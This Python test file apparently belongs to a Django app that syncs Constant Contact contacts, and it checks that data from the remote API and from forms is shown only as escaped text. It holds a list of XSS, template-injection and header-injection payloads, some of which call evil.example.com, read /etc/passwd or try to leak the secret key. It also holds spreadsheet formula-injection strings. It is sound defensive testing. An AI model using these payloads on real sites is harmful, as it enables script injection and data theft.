"""What Constant Contact sends is text, wherever it is shown: no element or attribute of a page comes from it."""

import csv
import io
import re
import uuid
from datetime import UTC, datetime
from html.parser import HTMLParser

import pytest
from django.conf import settings

from contacts import sync
from contacts.models import (
    Activity,
    Approval,
    AuditEntry,
    Contact,
    ContactList,
    Job,
    LinkedAccount,
    Spike,
    SyncRun,
    Write,
)
from contacts.services import jobs
from tests.rows import make_remote
from tests.security.liar import lying
from tests.security.pages import addresses

pytestmark = pytest.mark.django_db
MARK = "zqx"
NOW = datetime(2026, 11, 21, 12, 0, tzinfo=UTC)
PAYLOADS = [
    f"<script>{MARK}(1)</script>",
    f"</script><script src=//evil.example.com/{MARK}></script>",
    f"<img src=x onerror={MARK}(1)>",
    f"<svg onload={MARK}(1)><animate onbegin={MARK}(1)>",
    f'"><{MARK} onclick={MARK}(1)>',
    f"' {MARK}=1 autofocus onfocus={MARK}(1) x='",
    f'" {MARK}=1 hx-get="//evil.example.com/{MARK}" hx-trigger="load" x="',
    f"<div hx-post=/a/x/settings/unlink/ hx-trigger=load {MARK}>",
    f"<a href=javascript:{MARK}(1)>x</a>",
    f"javascript:{MARK}(1)",
    f"data:text/html,<script>{MARK}(1)</script>",
    f"</textarea><{MARK}>",
    f"</pre></table></article><{MARK}>",
    f"</title><{MARK}>",
    f"<!-- <{MARK}> --><{MARK}>",
    f"<![CDATA[<{MARK}>]]>",
    f"<style>@import '//evil.example.com/{MARK}'</style>",
    f"<base href=//evil.example.com/{MARK}>",
    f"<meta http-equiv=refresh content='0;url=//evil.example.com/{MARK}'>",
    f"<form action=//evil.example.com/{MARK}><input name=q>",
    f"{{{{ settings.SECRET_KEY }}}} {MARK}",
    f"{{% load ccadmin %}}{{% icon '{MARK}' %}}{{% include '/etc/passwd' %}}",
    f"&lt;{MARK}&gt; &#60;{MARK}&#62; &quot; {MARK}=1",
    f"\u202e{MARK}\u202c \u2066right to left",
    f"\U0001f4e7 \U000e0041 {MARK} \ufeff\u200b",
    f"\x00<\x00{MARK}>\x08\x1b[31m",
    f"\ud800<{MARK}>\udfff",
    f"\uff1c{MARK}\uff1e\u02ba \u2028<{MARK}>\u2029",
    f"`{MARK}` onerror=`{MARK}` %0d%0aSet-Cookie:{MARK}=1",
    f"${{{MARK}}} #{{{MARK}}} <%= {MARK} %>",
    f"{MARK}\r\nX-Evil: 1\r\n\r\n<{MARK}>",
    f"<{MARK} " + "x" * 5000,
]


class Marked(HTMLParser):
    """Collects elements, attribute names, and the values of attributes that act, if they come from a payload."""

    ACTING = ("href", "src", "action", "formaction", "style", "srcset", "target")

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            acts = name in self.ACTING or name.startswith(("on", "hx-"))
            if MARK in name or (acts and MARK in (value or "")) or name.startswith("on"):
                self.found.append((tag, name, value))
        if MARK in tag or tag in ("base", "iframe", "object", "embed", "style"):
            self.found.append((tag,))

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        if MARK in data:
            self.found.append(("comment", data))


def assert_only_text(answer):
    page = answer.content.decode()
    assert answer.status_code == 200, page[:500]
    parser = Marked()
    parser.feed(page)
    assert parser.found == []
    assert settings.SECRET_KEY not in page
    assert MARK not in str(answer.headers)


@pytest.fixture
def liar(settings):
    with lying(settings) as running:
        yield running


def stuffed(payload, **parts):
    """A contact with the payload in every text that Constant Contact may send."""
    email = {"opt_in_source": payload, "opt_out_reason": "", "confirm_status": payload}
    return make_remote(
        parts.pop("address", payload),
        email_address=email | parts.pop("email_address", {}),
        **dict.fromkeys(("first_name", "last_name", "job_title", "company_name", "create_source"), payload),
        **dict.fromkeys(("anniversary", "created_at", "update_source"), payload),
        custom_fields=[{"custom_field_id": payload, "value": payload}],
        phone_numbers=[{"phone_number": payload, "kind": payload}],
        street_addresses=[{"kind": payload, "street": payload, "city": payload, "country": payload}],
        notes=[{"note_id": payload, "content": payload}],
        taggings=[payload],
        **parts,
    )


def listing(payloads, key, id_key, name):
    """Lists, tags or custom fields with these names, numbered from 1."""
    return {
        key: [
            {id_key: str(uuid.UUID(int=number)), name: payload, "description": payload, "type": payload}
            for number, payload in enumerate(payloads, 1)
        ]
    }


def stuff(liar):
    """An account in which everything has a payload for its name: first as it was, then deleted or changed."""
    LinkedAccount.objects.filter(pk=liar.account.pk).update(name="".join(PAYLOADS[1:4]))
    liar.routes["GET /v3/contact_lists"] = listing(PAYLOADS, "lists", "list_id", "name")
    liar.routes["GET /v3/contact_tags"] = listing(PAYLOADS, "tags", "tag_id", "name")
    liar.routes["GET /v3/contact_custom_fields"] = listing(PAYLOADS, "custom_fields", "custom_field_id", "label")
    ids = [str(uuid.UUID(int=number)) for number in range(1, len(PAYLOADS) + 1)]
    people = [stuffed(each, address=f"{MARK}{n}@example.org", list_memberships=ids) for n, each in enumerate(PAYLOADS)]
    people += [stuffed(each) for each in PAYLOADS[::4]]
    for changed in ({}, {"deleted_at": "2026-11-17", "first_name": PAYLOADS[0]}):
        liar.holds(*(each | changed for each in people))
        run = sync.carry_on(sync.start(liar.account, SyncRun.Kind.FULL))
        assert run.state == SyncRun.State.DONE, run.message
    liar.account.refresh_from_db()
    return [each["contact_id"] for each in people]


def plan_jobs(liar):
    """Plans about everybody, with every list and tag, and one that runs."""
    lists = [str(each) for each in ContactList.objects.values_list("remote_id", flat=True)]
    for number, kind in enumerate(("reactivate", "add_lists", "add_tags")):
        wish = {"chosen": "Everybody", "token": uuid.UUID(int=number), "lists": lists, "note": PAYLOADS[0]}
        job = jobs.freeze(liar.account, Job.Kind(kind), by=liar.access.user, contacts=Contact.objects.all(), **wish)
    Job.objects.filter(pk=job.pk).update(state="running", order="run", message=PAYLOADS[0])


JOB_STATES = {
    "planned": {},
    "running": {"order": "run"},
    "tried": {"order": "try"},
    "paused": {"order": "pause"},
    "stopped": {"order": "stop", "finished_at": NOW},
    "done": {"order": "run", "finished_at": NOW},
}


def hostile_job(liar):
    """A job about everybody with a payload for each text of it, one person done, and a bulk job that failed."""
    job = Job.objects.filter(kind="reactivate").first()
    group = job.groups.first()
    Job.objects.filter(pk=job.pk).update(chosen=PAYLOADS[4], note=PAYLOADS[5], people=3)
    Approval.objects.create(job=job, people=3, state="sent_back", note=PAYLOADS[8][:300], answered_at=NOW)
    told = {"state": "ended", "remote_state": PAYLOADS[9][:32], "message": PAYLOADS[6], "errors": 1}
    Activity.objects.create(account=liar.account, job=job, group=group, kind="add_list_memberships", people=3, **told)
    for item, state in zip(job.items.order_by("pk"), ("rejected", "refused", "unknown"), strict=False):
        item.write = Write.objects.create(
            account=liar.account, contact=item.contact, kind="reactivate", state=state, message=PAYLOADS[7]
        )
        item.reason, item.group = "", group
        item.save()
    return job


def test_whatever_a_job_a_spike_or_a_note_on_a_list_says_stays_text(liar):
    stuff(liar)
    plan_jobs(liar)
    job = hostile_job(liar)
    ContactList.objects.update(note=PAYLOADS[0], gone_at=NOW)
    ContactList.objects.filter(remote_id=uuid.UUID(int=3)).update(gone_at=None)
    spike = Spike.objects.get()
    liar.browser.post(liar.at("deleted_spike_dismiss", pk=spike.pk), {"reason": PAYLOADS[4]})
    spike.refresh_from_db()
    assert spike.dismissed_reason == PAYLOADS[4]
    for state, columns in JOB_STATES.items():
        Job.objects.filter(pk=job.pk).update(state=state, message=PAYLOADS[3], **{"finished_at": None, **columns})
        for name in ("job_detail", "job_people", "job_progress"):
            assert_only_text(liar.browser.get(liar.at(name, pk=job.pk), {"said": PAYLOADS[1]}))
    for name, more in (("deleted_spike", {"pk": spike.pk}), ("list_list", {}), ("home", {}), ("job_list", {})):
        assert_only_text(liar.browser.get(liar.at(name, **more)))
    assert_only_text(liar.browser.get(liar.at("deleted_list"), {"tab": "spikes"}))
    assert_only_text(liar.browser.get(liar.at("list_list"), {"name": PAYLOADS[4], "sort": PAYLOADS[5]}))
    assert_only_text(liar.browser.post(liar.at("job_plan", kind="delete"), {"addresses": PAYLOADS[0]}))
    pasted = {"source": "pasted", "token": str(uuid.uuid4()), "addresses": "\n".join(PAYLOADS[:6])}
    assert_only_text(liar.browser.post(liar.at("job_plan", kind="delete"), pasted))
    for name in ("list_new", "list_edit"):
        where = {} if name == "list_new" else {"list_id": uuid.UUID(int=3)}
        form = {"name": PAYLOADS[0] + "x" * 300, "description": PAYLOADS[4], "seen": PAYLOADS[5]}
        assert_only_text(liar.browser.post(liar.at(name, **where), form))
    sent = [each for each in PAYLOADS if "\ud800" not in each]
    form = {"lists": sent, "had": sent, "note": PAYLOADS[0], "narrow": PAYLOADS[4]}
    contact = Contact.objects.filter(deleted_on__isnull=False).first()
    for name in ("contact_lists", "contact_lists_save"):
        assert_only_text(liar.browser.post(liar.at(name, remote_id=contact.remote_id), form))


FORMULAS = ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\x0b=1", '"=1"', " =1", "a;=1", "a\n=1", "＝1", "\ufeff=1"]


def test_no_cell_of_a_report_is_worked_out(liar):
    """Every column of it: names, addresses, what was said, and what proves it."""
    liar.routes["GET /v3/contact_lists"] = listing(FORMULAS, "lists", "list_id", "name")
    ids = [str(uuid.UUID(int=number)) for number in range(1, len(FORMULAS) + 1)]
    people = [stuffed(each, address=f"{each}@example.org", list_memberships=ids) for each in FORMULAS]
    for changed in ({}, {"deleted_at": "2026-11-17"}):
        liar.holds(*(each | changed for each in people))
        sync.carry_on(sync.start(liar.account, SyncRun.Kind.FULL))
    plan_jobs(liar)
    job = Job.objects.filter(kind="reactivate").get()
    for item, said in zip(job.items.all(), FORMULAS, strict=False):
        state = {"state": "rejected", "message": said}
        item.write = Write.objects.create(account=liar.account, contact=item.contact, kind="reactivate", **state)
        item.save()
    answer = liar.browser.get(liar.at("job_report", pk=job.pk))
    file = b"".join(answer).decode().removeprefix("\ufeff")
    read = list(csv.reader(io.StringIO(file, newline="")))
    assert len(read) == len(FORMULAS) + 1
    for value in (value for row in read for value in row):
        for part in re.split(r"[;\t\r\n]", value):
            assert not part.lstrip(' "\x0b\ufeff').startswith(("=", "+", "-", "@", "＝")), value


def test_whatever_people_lists_tags_fields_and_the_account_are_called_stays_text(liar):
    people = stuff(liar)
    plan_jobs(liar)
    for address in addresses(liar.account):
        if "reactivate" not in address:
            assert_only_text(liar.browser.get(address))
    for contact_id in people[::3]:
        assert_only_text(liar.browser.get(liar.at("contact_reactivate", remote_id=contact_id)))
        for form in ({"q": contact_id}, {"q": contact_id, "as": "row"}):
            assert_only_text(liar.browser.post(liar.at("check_live"), form, headers={"HX-Request": "true"}))


@pytest.mark.parametrize("payload", ["\x00", *(each for each in PAYLOADS if "\ud800" not in each)][::2])
def test_whatever_a_person_types_stays_text(liar, payload):
    for name, form in (
        ("check", {"q": payload}),
        ("check", {"q": f"{payload}\n{payload}@example.org"}),
        ("check_live", {"q": payload}),
        ("contact_list", {"text": payload}),
        ("deleted_list", {"text": payload}),
        ("account_writing", {"writing": payload, "reason": payload}),
    ):
        answer = liar.browser.post(liar.at(name), form)
        assert_only_text(answer)
    assert_only_text(liar.browser.get(liar.at("check"), {"q": payload}))
    assert_only_text(
        liar.browser.get(
            liar.at("contact_list"), {"status": payload, "list": payload, "sort": payload, "after": payload}
        )
    )
    liar.browser.post(liar.at("account_writing"), {"writing": "paused", "reason": payload})
    for name in ("home", "sync_status", "account_settings"):
        assert_only_text(liar.browser.get(liar.at(name)))


@pytest.mark.parametrize("status", ["400 Bad", "403 No", "409 Taken", "500 Ill"])
def test_whatever_a_refusal_says_stays_text(liar, status):
    ghost = make_remote("ghost@example.org", deleted_at="2026-11-17")
    liar.routes["GET /v3/contact_lists"] = listing(["Newsletter"], "lists", "list_id", "name")
    liar.holds(ghost)
    sync.carry_on(sync.start(liar.account, SyncRun.Kind.FULL))
    where = liar.at("contact_reactivate", remote_id=ghost["contact_id"])
    for payload in PAYLOADS[::6]:
        said = [{"error_key": payload, "error_message": payload}]
        liar.statuses = {"PUT": status}
        liar.routes[f"PUT /v3/contacts/{ghost['contact_id']}"] = said
        seen = liar.browser.get(where).context["offer"].preview.seen
        token = str(uuid.uuid4())
        form = {
            "lists": [str(uuid.UUID(int=1))],
            "basis": "our_mistake",
            "token": token,
            "seen": seen,
            "note": payload.replace("\x00", "")[:400],
        }
        assert_only_text(liar.browser.post(where, form, headers={"HX-Request": "true"}))
        assert_only_text(liar.browser.get(liar.at("write_detail", token=token)))
        for entry in AuditEntry.objects.order_by("-pk")[:2]:
            assert_only_text(liar.browser.get(liar.at("audit_detail", pk=entry.pk)))
        liar.statuses = {"GET": status}
        liar.routes[f"GET /v3/contacts/{ghost['contact_id']}"] = said
        assert_only_text(
            liar.browser.post(liar.at("check_live"), {"q": ghost["contact_id"]}, headers={"HX-Request": "true"})
        )
        liar.statuses = {}
        liar.routes[f"GET /v3/contacts/{ghost['contact_id']}"] = ghost
        Write.objects.all().delete()
